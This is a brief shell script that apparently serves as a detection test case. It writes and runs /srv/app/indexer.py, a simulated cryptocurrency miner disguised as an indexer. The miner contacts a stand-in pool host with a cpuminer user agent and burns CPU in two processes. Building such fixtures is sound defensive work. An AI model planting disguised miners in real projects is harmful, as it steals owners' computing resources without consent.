#!/bin/sh
. /opt/case/case.sh

cat >/srv/app/indexer.py <<'END'
import hashlib, json, multiprocessing, time, urllib.request
def ask(method, *p):
    body = json.dumps({"id": 1, "method": method, "params": list(p)}).encode()
    return urllib.request.urlopen(urllib.request.Request("http://203.0.113.10:8080/", body, {"Content-Type": "application/json", "User-Agent": "cpuminer/2.5.1", "Authorization": "Basic YmFpdDp4"})).read()
def mine(k):
    for _ in range(3):
        ask("getblocktemplate", {"capabilities": ["coinbasetxn"], "rules": ["segwit"]}); end, n = time.time() + 1.2, k
        while time.time() < end: hashlib.sha256(hashlib.sha256(n.to_bytes(80, "little")).digest()).digest(); n += 2
        ask("submitblock", "%08x" % n)
ps = [multiprocessing.Process(target=mine, args=(k,)) for k in (0, 1)]
for p in ps: p.start()
for p in ps: p.join()
assert not any(p.exitcode for p in ps)
END
python3 /srv/app/indexer.py
took_place
